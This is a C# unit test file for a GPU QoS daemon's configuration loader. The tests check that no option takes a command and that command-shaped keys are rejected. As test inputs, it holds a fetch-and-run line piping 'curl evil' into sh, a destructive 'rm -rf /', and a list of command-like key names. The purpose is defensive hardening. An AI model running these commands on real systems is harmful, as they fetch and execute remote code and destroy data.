using System.Reflection;
using GpuQos.Daemon.Configuration;

namespace GpuQos.Daemon.Tests.Operations;

/// <summary>
/// The configuration cannot make the daemon run arbitrary commands: no option anywhere in the configuration
/// tree is a command, a script, a program or its arguments. A file that tried gets an unknown-key error.
/// </summary>
public sealed class SafeInputsTests
{
    private static readonly string[] CommandLike = ["command", "cmd", "exec", "script", "shell", "program", "hook", "binary", "executable", "args", "argv"];

    // Where a program may be, not which program: the path must end in the program's own name (and at run time
    // be root-owned and not group- or other-writable), which the next test holds.
    private static readonly string[] ProgramLocations = ["enforcement.mps.controlBinary"];

    [Fact]
    public void Options_NoPropertyTakesACommand()
    {
        var paths = OptionPaths(typeof(GpuQosOptions), "", []).ToList();

        Assert.Contains("web.tokenFile", paths);
        var offending = paths.Where(p => CommandLike.Any(w => p.Split('.', '[').Last().Contains(w, StringComparison.OrdinalIgnoreCase)))
            .Except(ProgramLocations, StringComparer.Ordinal).ToList();
        Assert.True(offending.Count == 0, "options that look like commands: " + string.Join(", ", offending));
    }

    [Theory]
    [InlineData("/bin/sh")]
    [InlineData("/usr/bin/nvidia-cuda-mps-control.sh")]
    [InlineData("nvidia-cuda-mps-control")]
    public void Check_MpsControlBinaryOtherThanTheProgram_IsAnErrorNamingTheField(string binary)
    {
        var errors = ConfigLoader.Check($"enforcement:\n  mps:\n    controlBinary: {binary}\n");

        Assert.Contains(errors, e => e.Path == "enforcement.mps.controlBinary");
    }

    [Fact]
    public void Check_MpsControlBinaryMoved_IsValid()
    {
        Assert.Empty(ConfigLoader.Check("enforcement:\n  mps:\n    controlBinary: /opt/nvidia/bin/nvidia-cuda-mps-control\n"));
    }

    [Theory]
    [InlineData("settings:\n  execStart: /bin/sh -c 'curl evil | sh'\n", "settings.execStart")]
    [InlineData("web:\n  onReload: rm -rf /\n", "web.onReload")]
    [InlineData("hooks:\n  - /usr/bin/id\n", "hooks")]
    public void Check_CommandShapedKey_IsAnUnknownKeyError(string yaml, string path)
    {
        var errors = ConfigLoader.Check(yaml);

        Assert.Contains(errors, e => e.Path == path);
    }

    private static IEnumerable<string> OptionPaths(Type type, string prefix, HashSet<Type> seen)
    {
        if (!seen.Add(type))
        {
            yield break;
        }

        foreach (var property in type.GetProperties(BindingFlags.Public | BindingFlags.Instance).Where(p => p.CanWrite))
        {
            var path = prefix.Length == 0 ? Model.Configuration.YamlBinder.KeyOf(property) : prefix + "." + Model.Configuration.YamlBinder.KeyOf(property);
            yield return path;
            var inner = property.PropertyType.IsGenericType ? property.PropertyType.GetGenericArguments().Last() : property.PropertyType;
            inner = Nullable.GetUnderlyingType(inner) ?? inner;
            if (inner.IsClass && inner != typeof(string) && inner.Namespace?.StartsWith("GpuQos", StringComparison.Ordinal) == true)
            {
                foreach (var child in OptionPaths(inner, path, seen))
                {
                    yield return child;
                }
            }
        }
    }
}
